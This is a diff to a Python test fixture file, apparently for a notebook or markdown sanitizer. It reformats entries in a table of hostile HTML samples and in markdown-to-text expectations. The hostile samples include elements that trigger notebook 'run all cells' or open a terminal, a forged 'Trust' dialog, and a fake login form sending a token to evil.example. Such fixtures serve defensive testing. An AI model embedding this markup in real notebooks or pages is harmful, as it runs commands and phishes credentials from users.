@@ -109,7 +109,9 @@ HOSTILE: dict[str, dict[str, str]] = {
     },
     "forged-lab": {
         "command-button": '<button data-commandlinker-command="notebook:run-all-cells">Show more</button>',
-        "command-on-summary": '<details><summary data-commandlinker-command="notebook:run-all-cells">x</summary></details>',
+        "command-on-summary": (
+            '<details><summary data-commandlinker-command="notebook:run-all-cells">x</summary></details>'
+        ),
         "command-with-args": "<a data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</a>",
         "dialog": "<div class='jp-Dialog jp-mod-styled'><button class='jp-Dialog-button'>Trust</button></div>",
         "form": "<form action='https://evil.example'><input name=token><button>Log in</button></form>",
@@ -286,7 +288,10 @@ READ_AS: dict[str, tuple[str, str]] = {
     "display-formula": ("$$\na\n=\n- b\n$$", "\\[\na\n=\n- b\n\\]"),
     "formula-in-quote": ("> $$\n> a\n> = b\n> $$", "\\[\na\n= b\n\\]"),
     "formula-in-item": ("- $$\n  a\n  = b\n  $$", "\\[\na\n= b\n\\]"),
-    "bare-environment": ("\\begin{align}\na &= b\\\\\n- c\n\\end{align}", "\\[\\begin{align}a &= b\\\\- c\\end{align}\\]"),
+    "bare-environment": (
+        "\\begin{align}\na &= b\\\\\n- c\n\\end{align}",
+        "\\[\\begin{align}a &= b\\\\- c\\end{align}\\]",
+    ),
     "money-table": ("| a | $5 |\n|---|---|\n| b | $10 |", "a $5 b $10"),
     "tasks": ("- [ ] open\n- [x] ready", "☐ open ☑ ready"),
     "details": ("<details>\n<summary>More</summary>\n\n**text**\n\n</details>", "More text"),
